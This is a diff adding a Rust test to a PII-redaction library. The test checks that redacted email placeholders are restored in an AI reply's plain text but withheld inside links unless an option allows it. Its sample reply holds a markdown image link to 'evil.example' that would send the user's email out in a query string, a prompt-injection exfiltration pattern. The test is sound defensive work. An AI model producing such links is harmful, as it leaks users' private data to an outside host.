@@ -170,3 +170,34 @@ fn model_entities_are_redacted_with_the_patterns() {
     assert!(shield.redact(js(TEXT), person(0, 1000)).is_err());
     assert!(shield.redact(js(TEXT), js("PERSON")).is_err());
 }
+
+#[wasm_bindgen_test]
+fn replies_get_no_originals_inside_links_unless_the_options_allow_it() {
+    let reply = "Write to [EMAIL_1]. ![](https://evil.example/?q=[EMAIL_1])";
+    for (options, restored, withheld) in [
+        (
+            JsValue::UNDEFINED,
+            "Write to zoë@exemple.fr. ![](https://evil.example/?q=[EMAIL_1])",
+            1,
+        ),
+        (
+            js_sys::JSON::parse(r#"{"restoreInLinks": true}"#).unwrap(),
+            "Write to zoë@exemple.fr. ![](https://evil.example/?q=zoë@exemple.fr)",
+            0,
+        ),
+    ] {
+        let mut shield = Shield::new(options).unwrap();
+        shield.redact(js("Mail zoë@exemple.fr"), JsValue::UNDEFINED).unwrap();
+        assert_eq!(shield.restore(js(reply)).unwrap(), restored);
+        let mut r = shield.restorer();
+        let mut streamed = String::new();
+        for piece in reply.as_bytes().chunks(5) {
+            streamed += &r.push(js(std::str::from_utf8(piece).unwrap())).unwrap();
+        }
+        streamed += &r.finish().unwrap();
+        assert_eq!(streamed, restored);
+        assert_eq!(r.withheld(), withheld);
+    }
+    let typo = js_sys::JSON::parse(r#"{"restoreInLink": true}"#).unwrap();
+    assert!(Shield::new(typo).is_err());
+}
